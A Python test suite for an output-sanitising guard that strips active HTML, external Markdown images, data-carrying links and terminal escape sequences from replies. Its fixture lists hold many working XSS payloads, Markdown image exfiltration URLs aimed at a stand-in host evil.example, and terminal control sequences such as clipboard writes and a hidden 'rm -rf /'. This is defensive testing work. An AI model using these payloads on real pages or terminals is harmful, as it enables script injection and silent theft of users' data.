"""What a reply would do to whoever shows it is taken out of it, at any cut, and what is left shows and does nothing."""

from __future__ import annotations

import itertools
import re
from collections.abc import Sequence
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sekimori.guard.output import detectors
from sekimori.guard.spans import REACH, Growing, find_all, joined, replaced

HOSTS = ("docs.example", "*.cdn.example")


def released(consumer: str, text: str, hosts: Sequence[str] = HOSTS) -> str:
    matches = joined(find_all(detectors(consumer, hosts), text))
    return replaced(text, matches, ["[REDACTED]" if one.instead is None else one.instead for one in matches])


def types(consumer: str, text: str, hosts: Sequence[str] = HOSTS) -> list[str]:
    return [match.type for match in find_all(detectors(consumer, hosts), text)]


class Page(HTMLParser):
    """What a browser would make of a text: elements that run, attributes that run or fetch."""

    RUN = frozenset(
        {"script", "iframe", "frame", "object", "embed", "applet", "svg", "math", "base", "meta", "link", "form"}
        | {"input", "button", "style", "template"}
    )

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.images: list[str] = []
        self.feed(text.replace("<![", "<! ["))  # of which this parser makes an error, and a browser a comment
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in self.RUN:
            self.bad.append(tag)
        for name, value in attrs:
            said = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if (name.startswith("on") and value) or said.startswith(("javascript:", "vbscript:", "data:text")):
                self.bad.append(f"{tag} {name}")
            if name in ("src", "srcset", "poster", "background") and re.match(r"(?:https?:)?[/\\]{2}", said):
                host = re.sub(r"^(?:https?:)?[/\\]+", "", said).split("/")[0]
                if host != "docs.example" and not host.endswith(".cdn.example"):
                    self.images.append(said)


HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt\n>alert(1)</sCrIpT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR = 'alert(1)'>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    '<img src="x"\tonerror\n=\nalert(1)>',
    "<img src=x onerror=alert`1`//",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><img src=x onerror=alert(1)></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='&#0000106&#0000097vascript:alert(1)'>x</a>",
    "<a href='java&Tab;script&#58;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.example/?leak=abcdefghi'>x</a>",
    "<a href='https:evil.example/?leak=abcdefghi'>x</a>",
    "<a href='https://docs.example@evil.example/?leak=abcdefghi'>x</a>",
    "<a href='https://docs.example\\@evil.example/?leak=abcdefghi'>x</a>",
    "<area href=javascript:alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea></textarea>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv='refresh' content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='width:exp/**/ression(alert(1))'>x</p>",
    "<p style='b\\61ckground:url(x)'>x</p>",
    "<p style=\"background:image-set('https://evil.example/a')\">x</p>",
    "<table background=//evil.example/a.png></table>",
    "<img src=//evil.example/a.png>",
    "<img src='https://evil.example/a.png?d=secret'>",
    "<img src='/\\evil.example/a.png'>",
    "<img src='\\\\evil.example\\a.png'>",
    "<img srcset='a.png 1x, https://evil.example/b.png 2x'>",
    "<img src='https://evil.example&#47;a'>",
    "<video poster=//evil.example/p.png></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/a.mp3></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<b onmouseover=alert(1)>x</b>",
    "</b onclick=alert(1)>",
    "<p title='>' onclick=alert(1)>x</p>",
    '<p title="<b>" onclick=alert(1)>x</p>',
    '<p a=\'<b c="\' onclick=alert(1) d="">x</p>',
    "<y <img src=x onerror=alert(1)>",
    "<y z=<b/onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- <img src='--><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><a href='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><script>alert(1)</script></template>",
    "<x-widget src=a></x-widget>",
    "<p is=x-widget>x</p>",
    "<image href=//evil.example/a.png>",
    "<a href='https://evil.example/",
    "<img src='https://evil.example/?",
    "<script",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<a href='filesystem:https://x/y'>x</a>",
    "<a href='blob:https://x/y'>x</a>",
    "<frameset onload=alert(1)><frame src=//evil.example></frameset>",
]


@pytest.mark.parametrize("text", HTML)
def test_html_that_acts_is_told_and_what_is_released_does_nothing(text: str) -> None:
    assert types("html", text)
    page = Page(released("html", text))
    assert (page.bad, page.images) == ([], [])
    assert not types("html", released("html", text)), "what was put in its place is no finding itself"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "a < b and c > d",
        "1<2 && 3>2",
        "<p>Hello <b>world</b><br/><i class='x'>there</i></p>",
        "<a href='https://docs.example/a?q=long+search+text#here'>x</a>",
        "<a href='https://other.example/guide/start'>x</a>",
        '<a href="/local?with=query&and=more">x</a>',
        "<a href='mailto:a@b.example'>x</a>",
        "<img src=/logo.png alt='a > b'>",
        "<img src='https://img.cdn.example/a.png'>",
        "<img src='data:image/png;base64,AAAA'>",
        "<table><tr><td colspan=2>x</td></tr></table>",
        "<p style='color: red; margin: 0'>x</p>",
        "it costs <50 euro",
        "<ul><li>one</li><li>two</li></ul>",
        "&lt;script&gt;",
        "<code>on = 1</code>",
        "List<String> names",
    ],
)
def test_html_that_only_shows_passes(text: str) -> None:
    assert types("html", text) == []


IMAGES = [
    "![a](https://evil.example/a.png)",
    "![](https://evil.example/?d=secret)",
    "![a](<https://evil.example/a b.png>)",
    "![a]( https://evil.example/a.png )",
    "![a](\nhttps://evil.example/a.png\n'title')",
    '![a](https://evil.example/a.png "title")',
    "![a](//evil.example/a.png)",
    "![a](\\\\\\\\evil.example/a.png)",
    "![a](HTTPS://EVIL.EXAMPLE/a.png)",
    "![a](&#104;ttps://evil.example/a.png)",
    "![a](https&colon;//evil.example/a.png)",
    "![a](https\\://evil.example/a.png)",
    "![a](https://docs.example.evil.example/a.png)",
    "![a](https://docs.example@evil.example/a.png)",
    "![a](https://docs.example%2f@evil.example/a.png)",
    "![a](https://evilcdn.example/a.png)",
    "![a](https://docs.example:x@evil.example/a)",
    "![a [b] c](https://evil.example/a.png)",
    "![a [b](https://docs.example/x) c](https://evil.example/a.png)",
    "![a ![b](https://docs.example/x) c](https://evil.example/a.png)",
    "![a \\] b](https://evil.example/a.png)",
    "![a `]` b](https://evil.example/a.png)",
    "![a <b]> c](https://evil.example/a.png)",
    "![two\nlines](https://evil.example/a.png)",
    "![a](https://evil.example/(x)a.png)",
    "[![a](https://evil.example/a.png)](https://docs.example/)",
    "![a][x]\n\n[x]: https://evil.example/a.png",
    "[x]: https://evil.example/a.png\n\n![a][X]",
    "![x][]\n\n[x]: <https://evil.example/a.png> 'title'",
    "![x]\n\n[x]:\nhttps://evil.example/a.png",
    "> ![x]\n\n> [x]:\n> //evil.example/a.png",
    "- ![x]\n\n- [x]: https://evil.example/a.png",
    "[a\\]b]: https://evil.example/a.png\n\n![a\\]b]",
    "![" + "a" * 1500 + "](https://evil.example/a.png)",
    "![a](" + " " * 70 + "https://evil.example/a.png)",
    "![a](https://evil.example/" + "a" * 3000 + ")",
    "# T\n\n* ![a](https://evil.example/a.png)\n",
    "| a |\n|---|\n| ![a](https://evil.example/a.png) |",
    "x![a](http://1.2.3.4/a)",
    "![a](http://[::1]/a)",
    "<img src='https://evil.example/a.png'>",
    "text <img alt=x src=//evil.example/a.png> text",
    "<picture><source srcset='//evil.example/a.png'></picture>",
    "<div>\n<y <img src='https://evil.example/a.png'>\n</div>",
    "<y src=![a](https://evil.example/a.png) <b",
    "<a href='https://evil.example/?d=secret' title='![a](https://evil.example/a.png)'>x</a>",
    "<p style='b\\x:url(y)' title='![a](https://evil.example/a.png)'>x</p>",
]


def drawn(text: str) -> list[str]:
    """What a Markdown reader that lets HTML through would fetch from hosts that are not listed."""
    return Page(MarkdownIt("commonmark", {"html": True}).render(text)).images


@pytest.mark.parametrize("text", IMAGES)
def test_images_of_other_hosts_are_told_and_what_is_released_fetches_nothing(text: str) -> None:
    assert types("markdown", text)
    assert drawn(released("markdown", text)) == []


@pytest.mark.parametrize(
    "text",
    [
        "[a](https://evil.example/?d=secretvalue)",
        "[a](https://evil.example/x#secret=value)",
        "[a](<https://evil.example/?d=secretvalue>)",
        "[a](https://evil.example/c2VjcmV0dmFsdWVzZWNyZXR2YWx1ZQ==)",
        "[a](https://evil.example/4111111111111111)",
        "[a](https://6d79736563726574746f6b656e.evil.example/)",
        "[a](https://evil.example/" + "word-" * 30 + ")",
        "[a](javascript:alert(1))",
        "[a](JAVA\\script:x) [b](javascript&colon;alert(1))",
        "[a](data:text/html,x)",
        "[a](vbscript:x)",
        "[a](file:///etc/passwd)",
        "[x]: javascript:alert(1)",
        "<https://evil.example/?d=secretvalue>",
        "https://evil.example/?d=" + "secret" * 10,
        "see www.evil.example/?d=" + "secret" * 10,
        "<a href='https://evil.example/?d=secretvalue'>x</a>",
    ],
)
def test_links_that_run_or_carry_something_away_are_told(text: str) -> None:
    assert types("markdown", text)
    assert not types("markdown", released("markdown", text))


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[a](https://other.example/guide/start)",
        "[a](https://other.example/guide#install)",
        "[a](https://other.example/list?page=2)",
        "[a](https://docs.example/?d=anything+at+all)",
        "[a](#here) [b](../c.md) [d](/e?f=ghijkl)",
        "![a](chart.png) ![b](/img/c.svg 'title')",
        "![a](https://docs.example/a.png) ![b](https://x.cdn.example/b.png)",
        "![a](data:image/png;base64,AAAA)",
        "if (!items.includes(x)) { return ![1, 2].length; }",
        "#![no_std]\n#![allow(dead_code)]",
        "let first = items![0] as String",
        "auto f = [](int x) { return a[x](y); };",
        'cout<<name<<" = "<<value; for (i=0;i<n;i++) { x = 1; }',
        "https://api.other.example/v1/users?page=2&limit=50",
        "Dict[str, int]: a mapping. `x[0]: y`",
        "Note: the ratio is 3:2!",
        "def f(x) -> dict[str, Any]:\n    data: dict[str, Any] = {}",
        "a = {'<I': 4, '<Q': 8, data: [1]}",
        "<b>bold</b> and <br>",
        "List<String> a = new ArrayList<>();",
        "<button onclick='run()'>Run</button>",
    ],
)
def test_markdown_that_leads_nowhere_else_passes(text: str) -> None:
    assert types("markdown", text) == []


def test_without_hosts_every_image_of_a_host_counts() -> None:
    assert types("markdown", "![a](https://docs.example/a.png)", ()) == ["EXTERNAL_IMAGE"]


def test_what_is_put_in_a_place_can_be_read() -> None:
    assert released("markdown", "See ![a](https://evil.example/a.png).") == "See \\[image removed: evil.example\\]."
    assert released("markdown", "[a](https://evil.example/?d=secretvalue)") == "[a] (link removed: evil.example)"
    assert released("html", "<script>x</script>") == "&lt;script>x&lt;/script>"
    assert released("html", "<img src=//evil.example/a>") == "<i>[image removed: evil.example]</i>"


@pytest.mark.parametrize("value", ["sk-abcdef0123456789", "4111 1111 1111 1111", "(555) 123 4567"])
def test_a_mask_makes_no_image_of_a_value(value: str) -> None:
    """`!` before a value that is masked as `[…]`, and an address behind it."""
    said = released("markdown", f"!{value}(https://evil.example/a.png)").replace(value, "[REDACTED]")
    assert drawn(said) == []


TERMINAL = {
    "\x1b[31mred\x1b[0m": "red",
    "\x1b[2J\x1b[H": "",
    "\x1b]0;title\x07x": "x",
    "\x1b]2;title\x1b\\x": "x",
    "\x1b]8;;https://evil.example/\x1b\\text\x1b]8;;\x1b\\": "text",
    "\x1b]52;c;c2VjcmV0\x07x": "x",
    "\x1b]50;font\x9cx": "x",
    "\x1bP1$r\x1b\\x": "x",
    "\x1b_payload\x1b\\x": "x",
    "\x1b^private\x07x": "x",
    "\x9b31mred": "red",
    "\x9d0;title\x07x": "x",
    "\x90q\x9cx": "x",
    "\x85next": "next",
    "bell\x07": "bell",
    "safe\b\b\b\bevil": "safeevil",
    "safe\x7fx": "safex",
    "rm -rf /\rls": "rm -rf /\nls",
    "dos\r\nline\n": "dos\r\nline\n",
    "a\x0cb\x0bc\x00d": "abcd",
    "\x1b(0line": "line",
    "\x1b#8x": "x",
    "\x1bcx": "x",
    "\x1b7x\x1b8": "x",
    "\x1b[6n": "",
    "\x1b[?1049h": "",
    "\x1b\x1b[31mx": "x",
    "\x1b\x07[31mx": "[31mx",
    "\x1b]0;never ended": "]0;never ended",
    "\x1b[": "[",
    "\x1b": "",
    "\x0e\x0fx": "x",
}


@pytest.mark.parametrize("text", TERMINAL)
def test_a_terminal_gets_text_alone(text: str) -> None:
    assert released("terminal", text) == TERMINAL[text]


@pytest.mark.parametrize("text", ["plain", "tab\tand\nline", "dos\r\n", "ünïcödé 漢字 😀", "a\u00a0b"])
def test_plain_text_passes_a_terminal(text: str) -> None:
    assert types("terminal", text) == []


PIECES = st.one_of(
    st.sampled_from(
        [
            "<", ">", "</", "<a", "<img", "<script", "<b", "<y", " src=", " href=", " onerror=", "=", '"', "'", "/",
            " ", "\n", "\n\n", "![", "[", "](", "]:", "][", "]", "(", ")", "!", "`", "\\",
            "https://evil.example/",
            "//evil.example/", "https://docs.example/", "javascript:", "x", "x.png", "<!--", "-->", "&#58;", "> ", "- ",
            "[x]: https://evil.example/a", "![x]", "![a](https://evil.example/a)", "<img src=//evil.example/a>", "www.",
            "http", "\x1b", "\x1b[", "\x1b]", "\x07", "\r", "\\\x9b", "31m",
        ]
    ),
    st.text('ab<>"=\'/ !()[]:\n', max_size=4),
)  # fmt: skip
TEXTS = st.lists(PIECES, max_size=24).map("".join)


def in_pieces(consumer: str, text: str, places: Sequence[int]) -> str:
    """What is released of a text that comes in pieces, and that nothing is held beyond its bound."""
    growing, out, at, held = Growing(detectors(consumer, HOSTS)), "", 0, ""
    edges = sorted({place % (len(text) + 1) for place in places} | {0, len(text)})
    pieces = [text[start:end] for start, end in itertools.pairwise(edges)]
    for number, piece in enumerate([*pieces, ""]):
        growing.grow(piece, number == len(pieces))
        held += piece
        masks = ["[REDACTED]" if one.instead is None else one.instead for one in growing.final]
        moved = [one._replace(start=one.start - at, end=one.end - at) for one in growing.final]
        out += replaced(held[: growing.settled - at], moved, masks)
        held, at = held[growing.settled - at :], growing.settled
        assert len(held) <= REACH
    return out


@pytest.mark.parametrize("consumer", ["html", "markdown", "terminal"])
@settings(max_examples=400, deadline=None)
@given(TEXTS, st.lists(st.integers(0, 10_000), max_size=12))
@example("<a< =\"< src= = <'>>//evil.example/=x'x'\"x\"-->", [21, 36, 44])
def test_what_is_released_is_the_same_at_any_cut(consumer: str, text: str, places: list[int]) -> None:
    assert in_pieces(consumer, text, places) == released(consumer, text)
    assert in_pieces(consumer, text, range(len(text))) == released(consumer, text)


@settings(max_examples=600, deadline=None)
@given(TEXTS)
@example("<y <b c='<d' onerror=alert(1)>")
@example("<p title=== src= onx=1>")
def test_no_html_that_is_released_acts(text: str) -> None:
    page = Page(released("html", text))
    assert (page.bad, page.images) == ([], [])


@settings(max_examples=600, deadline=None)
@given(TEXTS)
def test_no_markdown_that_is_released_fetches_from_elsewhere(text: str) -> None:
    assert drawn(released("markdown", text)) == []


@pytest.mark.parametrize("consumer", ["html", "markdown", "terminal"])
@pytest.mark.parametrize(
    "unit", ["<a", "<a b='", "![", "](", "<a =", "!x", "]:", "](<", "\x1b[", "\x1b]", "http:", "![`](", "<a b=c "]
)
def test_a_text_without_end_is_settled_all_but_its_bound(consumer: str, unit: str) -> None:
    text = unit * (40_000 // len(unit))
    for detector in detectors(consumer, HOSTS):
        assert len(text) - detector.find(text, 0, False)[1] <= REACH
